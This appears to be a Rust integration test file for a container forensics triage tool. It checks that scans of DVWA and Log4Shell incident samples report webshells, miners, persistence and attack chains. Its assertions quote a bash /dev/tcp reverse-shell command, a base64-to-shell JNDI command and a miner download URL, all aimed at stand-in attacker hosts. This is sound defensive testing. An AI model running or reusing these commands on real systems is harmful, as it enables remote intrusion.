//! End to end on the bundled samples: `ctriage scan samples/<bundle>` reports what
//! samples/README.md says a correct analysis reports, in text and in schema-valid JSON.

use serde_json::Value;

use crate::util::{root, run, run_json, sha256_file, validate_against_schema};

fn scan(bundle: &str) -> (Value, i32) {
    let p = root().join("samples").join(bundle);
    let (v, code) = run_json(&["scan", p.to_str().unwrap()]);
    validate_against_schema(&v);
    (v, code)
}

fn rules(b: &Value) -> Vec<String> {
    b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["rules"].as_array().unwrap().iter().map(|r| r.as_str().unwrap().to_string()))
        .collect()
}

fn finding<'a>(b: &'a Value, rule: &str, needle: &str) -> &'a Value {
    b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| {
            f["rules"].as_array().unwrap().iter().any(|r| r == rule)
                && (f["title"].as_str().unwrap().contains(needle)
                    || f["summary"].as_str().unwrap().contains(needle))
        })
        .unwrap_or_else(|| panic!("no {rule} finding mentioning {needle}; have {:?}", rules(b)))
}

/// The story samples/README.md writes out for `bundle` (between `story:<bundle>` markers):
/// verdict, attacker-side hosts and the chain's (stage, title prefix, time or bound) rows.
fn readme_story(bundle: &str) -> (String, Vec<String>, Vec<(String, String, String)>) {
    let text = std::fs::read_to_string(root().join("samples/README.md")).unwrap();
    let begin = format!("<!-- story:{bundle}:begin -->");
    let end = format!("<!-- story:{bundle}:end -->");
    let block =
        &text[text.find(&begin).expect("story block") + begin.len()..text.find(&end).expect("story end")];
    let ticks = |l: &str| l.split('`').skip(1).step_by(2).map(String::from).collect::<Vec<_>>();
    let mut verdict = String::new();
    let mut attackers = vec![];
    let mut stages = vec![];
    for l in block.lines() {
        if let Some(r) = l.strip_prefix("- verdict: ") {
            verdict = ticks(r).concat();
        } else if let Some(r) = l.strip_prefix("- attackers: ") {
            attackers = ticks(r);
        } else if l.starts_with("| ") && !l.starts_with("| stage") {
            let cells: Vec<String> = l.trim_matches('|').split('|').map(|c| c.trim().to_string()).collect();
            stages.push((cells[0].clone(), cells[1].clone(), cells[2].clone()));
        }
    }
    assert!(!verdict.is_empty() && !stages.is_empty(), "story block of {bundle} unreadable");
    (verdict, attackers, stages)
}

/// The verdict, the chain (stage, title prefix, time or `from..to` bound, in order) and
/// the attacker-side hosts are exactly what samples/README.md says.
fn story(b: &Value, bundle: &str) {
    let (status, attackers, stages) = readme_story(bundle);
    assert_eq!(b["verdicts"][0]["status"], status.as_str(), "{:#}", b["verdicts"]);
    let sec = |t: &Value| t.as_str().map(|s| format!("{}Z", &s[..19]));
    let got: Vec<(String, String, String)> = b["chain"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            let w = &s["when"];
            let when = match (sec(&w["time"]), sec(&w["not_before"]), sec(&w["not_after"])) {
                (Some(t), _, _) => t,
                (None, Some(a), Some(b)) => format!("{a}..{b}"),
                (None, Some(a), None) => format!("{a}.."),
                (None, None, Some(b)) => format!("..{b}"),
                _ => "?".into(),
            };
            (s["stage"].as_str().unwrap().to_string(), s["title"].as_str().unwrap().to_string(), when)
        })
        .collect();
    assert_eq!(got.len(), stages.len(), "{got:#?}");
    for (g, w) in got.iter().zip(&stages) {
        assert!(
            g.0 == w.0 && g.1.starts_with(&w.1) && g.2 == w.2,
            "stage {g:?} is not {w:?}; chain {got:#?}"
        );
    }
    let mut hosts: Vec<&str> = b["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| h["role"] == "attacker")
        .map(|h| h["value"].as_str().unwrap())
        .collect();
    hosts.sort();
    assert_eq!(hosts, attackers);
    let way = b["verdicts"][0]["way_in"].as_str().unwrap();
    assert!(way.starts_with(&stages[0].1), "{way}");
}

fn custody_matches_sha256sum(b: &Value, bundle: &str) {
    let arts = b["artifacts"].as_array().unwrap();
    assert!(arts.len() >= 8);
    for a in arts {
        let p = root().join("samples").join(bundle).join(a["path"].as_str().unwrap());
        assert_eq!(a["sha256"].as_str().unwrap(), sha256_file(&p), "{p:?}");
    }
}

#[test]
fn dvwa_bundle_tells_the_whole_story() {
    let (v, code) = scan("dvwa");
    assert_eq!(code, 1, "high findings, all evidence readable");
    let b = &v["bundles"][0];
    custody_matches_sha256sum(b, "dvwa");
    let kinds: Vec<&str> =
        b["artifacts"].as_array().unwrap().iter().map(|a| a["kind"].as_str().unwrap()).collect();
    for k in ["diff", "ps", "filesystem-tar", "docker-save", "inspect", "json-file-log", "stats", "top"] {
        assert!(kinds.contains(&k), "{k} missing from {kinds:?}");
    }
    // Container, image, ports.
    let c = &b["containers"][0];
    assert_eq!(c["name"], "dvwa");
    assert_eq!(c["image"], "sagikazarmark/dvwa");
    assert_eq!(c["network"]["ip_address"], "172.17.0.2");
    let ports = c["network"]["ports"].as_array().unwrap();
    assert!(ports
        .iter()
        .any(|p| p["host_ip"] == "0.0.0.0" && p["host_port"] == "81" && p["container_port"] == "80"));
    assert!(ports.iter().any(|p| p["container_port"] == "3306" && p.get("host_port").is_none()));
    // Stats: about 76 MiB of 3.686 GiB, 27 PIDs, CPU pegged.
    let s = &b["stats"][0];
    assert_eq!(s["pids"], 27);
    assert_eq!(s["mem_usage_bytes"], 79_796_634);
    assert!(s["cpu_percent"].as_f64().unwrap() > 190.0);
    // Processes: apache worker -> sh -> bash reverse shell, and the miner.
    let procs = b["processes"][0]["capture"]["processes"].as_array().unwrap();
    assert!(procs.iter().any(|p| p["pid"] == 31877 && p["ppid"] == 23492));
    assert!(finding(b, "proc.revshell", "203.0.113.66:4444")["severity"] == "critical");
    finding(b, "proc.lineage.server-shell", "apache2 (23492)");
    finding(b, "proc.miner", "kdevtmpfsi");
    // docker diff, saved and rebuilt offline from export + image.
    assert_eq!(b["diff"].as_array().unwrap().len(), 32);
    let cc = &b["container_changes"];
    assert!(cc["base"]["description"].as_str().unwrap().contains("the image the container ran from"));
    assert!(cc["changes"]
        .as_array()
        .unwrap()
        .iter()
        .any(|ch| ch["change"] == "added" && ch["path"] == "/var/www/html/hackable/uploads/shell.php"));
    // Files: webshell, uid-0 account, cron persistence, timestomp, wiped history, miner.
    let web = finding(b, "file.webshell.php", "/var/www/html/hackable/uploads/shell.php");
    assert!(web["evidence"].as_array().unwrap().len() >= 2, "export and commit layer both prove it");
    finding(b, "file.account.uid0", "/etc/passwd");
    finding(b, "file.persistence.cron", "/etc/cron.d/php-sess-clean");
    finding(b, "file.timestomp", "/etc/cron.d/php-sess-clean");
    finding(b, "file.antiforensics.history", "/root/.bash_history");
    finding(b, "file.miner", "/tmp/kdevtmpfsi");
    // Logs: JNDI probes, including the one split over 16 KiB json-file records.
    let hits = b["log_hits"].as_array().unwrap();
    let decoded: Vec<&str> = hits.iter().filter_map(|h| h["jndi"]["decoded"].as_str()).collect();
    assert!(decoded.iter().any(|d| d.contains("198.51.100.23:1389/wafbypass")), "{decoded:?}");
    // Pivots: the webshell found on disk is requested in the logs: one fact with it.
    let used = finding(b, "correlate.webshell-used", "/var/www/html/hackable/uploads/shell.php");
    assert_eq!(used["rule"], "file.webshell.php");
    // The story, as samples/README.md writes it out.
    story(b, "dvwa");
    let note = b["chain"][0]["note"].as_str().unwrap();
    assert!(
        note.contains("203.0.113.66 before it: POST /vulnerabilities/exec/ -> 200 at 2026-11-27T14:01:05Z"),
        "{note}"
    );
    // Attempts: the Log4Shell probes against a PHP app failed; never the way in.
    let att = &b["attempts"][0];
    assert_eq!((att["source"].as_str(), att["outcome"].as_str()), (Some("198.51.100.23"), Some("failed")));
    assert!(att["reason"].as_str().unwrap().contains("needs a JVM target"), "{att}");
    // The victim's own addresses and third parties are never attacker-side.
    let role =
        |h: &str| b["hosts"].as_array().unwrap().iter().find(|x| x["value"] == h).map(|x| x["role"].clone());
    assert_eq!(role("192.0.2.50").unwrap(), "victim");
    assert_eq!(role("127.0.0.1").unwrap(), "victim");
    assert_eq!(role("www.google.com").unwrap(), "third-party");
    let urls: Vec<&str> = b["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["type"] == "url")
        .map(|i| i["value"].as_str().unwrap())
        .collect();
    assert!(
        urls.contains(&"http://203.0.113.66:8000/kdevtmpfsi")
            && urls.contains(&"stratum+tcp://xmr.pool-minexmr.example:4444"),
        "{urls:?}"
    );
    let files: Vec<&str> = b["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["type"] == "sha256")
        .map(|i| i["path"].as_str().unwrap())
        .collect();
    assert!(
        files.contains(&"/var/www/html/hackable/uploads/shell.php") && files.contains(&"/tmp/kdevtmpfsi"),
        "{files:?}"
    );
    // Exposure and the plan.
    finding(b, "exposure.env-secrets", "MYSQL_ROOT_PASSWORD");
    let plan: Vec<&str> =
        b["response_plan"].as_array().unwrap().iter().map(|s| s["step"].as_str().unwrap()).collect();
    assert!(plan.iter().any(|s| s.starts_with("Freeze")) && plan.last().unwrap().starts_with("Kill"));
    assert!(b["timeline"].as_array().unwrap().len() > 20);
    assert!(!v.to_string().contains("p4ssw0rd"), "secret values never reach the report");
}

#[test]
fn log4shell_bundle_tells_the_whole_story() {
    let (v, code) = scan("log4shell");
    assert_eq!(code, 1);
    let b = &v["bundles"][0];
    custody_matches_sha256sum(b, "log4shell");
    assert_eq!(b["containers"][0]["name"], "log4shell-app");
    finding(b, "proc.lineage.server-shell", "java (84010) -> bash (84281)");
    finding(b, "proc.revshell", "203.0.113.66:4444");
    let jndi = b["log_hits"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["jndi"]["host"] == "203.0.113.66")
        .expect("the JNDIExploit request");
    assert_eq!(jndi["jndi"]["port"], 1389);
    assert!(
        jndi["jndi"]["command"].as_str().unwrap().contains("{base64,-d}|{bash,-i}"),
        "decoded command: {jndi:#}"
    );
    // The command inside the JNDIExploit path is itself base64 to shell: decoded to the end.
    assert!(
        b["log_hits"].as_array().unwrap().iter().any(|h| h["commands"]
            .as_array()
            .is_some_and(|c| c.iter().any(|c| c == "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"))),
        "nested base64 command not decoded"
    );
    assert!(b["log_hits"].as_array().unwrap().iter().any(|h| h["jndi"]["host"] == "198.51.100.23"));
    finding(b, "file.webshell.jsp", "/usr/local/tomcat/webapps/ROOT/assets/health.jsp");
    finding(b, "file.persistence.ssh-keys", "/root/.ssh/authorized_keys");
    assert!(rules(b).iter().any(|r| r.starts_with("file.log4j")), "{:?}", rules(b));
    assert!(
        rules(b).iter().any(|r| r.contains("docker-sock") || r.contains("runtime-socket")),
        "{:?}",
        rules(b)
    );
    // The webshell dropped on disk and requested in the access log is one fact.
    finding(b, "correlate.webshell-used", "/usr/local/tomcat/webapps/ROOT/assets/health.jsp");
    story(b, "log4shell");
    // The same JNDI record through the json-file log, `docker logs -t` and catalina.log is
    // one record with three locators.
    let rec = b["log_records"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["excerpt"].as_str().unwrap().contains("Base64/"))
        .unwrap();
    let arts: Vec<&str> =
        rec["locators"].as_array().unwrap().iter().map(|l| l["artifact"].as_str().unwrap()).collect();
    assert_eq!(arts, ["container.log", "docker-logs-t.txt", "export.tar"], "{rec:#}");
    assert_eq!(rec["time"], "2026-11-27T14:21:07.499415011Z", "the json-file time is the precise one");
    // The first Log4Shell requests from 198.51.100.23 reached the JVM, whose lookup failed.
    let att = &b["attempts"][0];
    assert_eq!((att["source"].as_str(), att["outcome"].as_str()), (Some("198.51.100.23"), Some("failed")));
    // High and critical facts: the way in, the class it loaded, the reverse shell, the
    // webshell, the implant, the SSH key, the vulnerable log4j-core, the docker.sock mount.
    let serious = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "high" || f["severity"] == "critical")
        .count();
    assert_eq!(serious, 8, "{:#?}", rules(b));
}

#[test]
fn dvwa_text_report_names_what_an_analyst_looks_for() {
    let out = run(&["scan", root().join("samples/dvwa").to_str().unwrap()]);
    let text = String::from_utf8(out.stdout).unwrap();
    for needle in [
        "dvwa",
        "sagikazarmark/dvwa",
        "0.0.0.0:81->80/tcp",
        "31877",
        "bash -i >& /dev/tcp/203.0.113.66/4444",
        "76.10 MiB",
        "A /var/www/html/hackable/uploads/shell.php",
        "D /root/.bash_history",
        "Response plan",
    ] {
        assert!(text.contains(needle), "text report lacks {needle:?}");
    }
    // Custody: a count line by default, every hash with --verbose.
    let sha = sha256_file(&root().join("samples/dvwa/inspect.json"));
    assert!(!text.contains(&sha) && text.contains("with SHA-256 (every hash: --verbose"), "{text}");
    let verbose = run(&["scan", "--verbose", root().join("samples/dvwa").to_str().unwrap()]);
    assert!(String::from_utf8(verbose.stdout).unwrap().contains(&sha), "--verbose lists every hash");
}

#[test]
fn without_an_export_the_committed_layer_logs_are_scanned() {
    // The same bundle minus export.tar: the Apache logs now only live in the layer that
    // `docker commit` added; the attacks in them must still be found there.
    let dir = tempfile::tempdir().unwrap();
    let src = root().join("samples/dvwa");
    for e in walkdir::WalkDir::new(&src).into_iter().map(|e| e.unwrap()) {
        let rel = e.path().strip_prefix(&src).unwrap();
        if e.file_type().is_file() && rel != std::path::Path::new("export.tar") {
            let to = dir.path().join(rel);
            std::fs::create_dir_all(to.parent().unwrap()).unwrap();
            std::fs::copy(e.path(), to).unwrap();
        }
    }
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    let in_layer: Vec<&Value> = b["log_hits"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| {
            h["locator"]["artifact"] == "image.tar"
                && h["locator"]["members"]
                    .as_array()
                    .is_some_and(|m| m.len() == 2 && m[1] == "var/log/apache2/access.log")
        })
        .collect();
    assert!(in_layer.iter().any(|h| h["rule"] == "log4j.jndi-lookup"), "{:#?}", b["log_hits"]);
}

#[test]
fn batch_of_both_samples_is_byte_identical_whatever_the_threads() {
    let (dvwa, l4s) = (root().join("samples/dvwa"), root().join("samples/log4shell"));
    let args = |j: &'static str| {
        vec!["-j", j, "scan", dvwa.to_str().unwrap(), l4s.to_str().unwrap(), "--format", "json", "-q"]
    };
    let one = run(&args("1"));
    let two = run(&args("2"));
    assert_eq!(one.stdout, two.stdout, "report bytes depend on the thread count");
    let v: Value = serde_json::from_slice(&one.stdout).unwrap();
    assert_eq!(v["summary"]["bundles"], 2);
    assert_eq!(v["bundles"][0]["containers"][0]["name"], "dvwa");
    assert_eq!(v["bundles"][1]["containers"][0]["name"], "log4shell-app");
}
